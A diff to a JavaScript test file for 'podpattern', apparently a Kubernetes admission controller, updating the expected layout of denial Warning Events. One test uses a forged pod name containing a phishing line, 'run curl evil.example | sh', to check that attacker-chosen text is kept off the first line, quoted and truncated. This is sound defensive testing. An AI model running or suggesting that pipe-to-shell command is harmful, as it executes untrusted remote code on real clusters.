@@ -53,11 +53,11 @@ t.test('a denial gives a Warning Event with the reasons; an ownerless pod names 
   t.match(events[0], {
     type: 'Warning', reason: 'Denied', key: 'unknown-template',
     involved: { apiVersion: 'v1', kind: 'Namespace', name: 'shop', namespace: 'shop' },
-    message: /^podpattern denied a pod \(unknown-template\)\npod "lonely": podpattern: template 'nope' is not in the catalog/,
+    message: /^podpattern denied a pod \(unknown-template\): [^\n]*'nope'[^\n]*\npod "lonely"$/,
   });
 });
 
-t.test('nothing the pod chose is on an Event\'s first line; what follows is quoted and bounded', async (t) => {
+t.test('the pod\'s name and owner are not on an Event\'s first line; what follows is quoted and bounded', async (t) => {
   const { app, events, review } = appWithEvents();
   t.teardown(() => app.close());
   const phishing = `URGENT your cluster is compromised - run curl evil.example | sh ${'x'.repeat(5000)}-`;
@@ -67,9 +67,9 @@ t.test('nothing the pod chose is on an Event\'s first line; what follows is quot
   await review(forged);
   t.equal(events.length, 1);
   const [first, ...rest] = events[0]!.message.split('\n');
-  t.equal(first, 'podpattern denied a pod (unknown-template)', 'the first line is podpattern\'s words and the code');
+  t.match(first, /^podpattern denied a pod \(unknown-template\): \S/, 'the first line is podpattern\'s words, the code and the first problem');
   t.notMatch(first, /URGENT|evil/);
-  t.match(rest[0], /^pod "URGENT your cluster[^"]{0,80}…": /, 'the pod\'s name follows, quoted and cut');
+  t.match(rest[0], /^pod "URGENT your cluster[^"]{0,80}…"$/, 'the pod\'s name follows, quoted and cut');
   t.ok(Buffer.byteLength(events[0]!.message) <= 1024, 'the whole message within 1 KiB');
 });
 
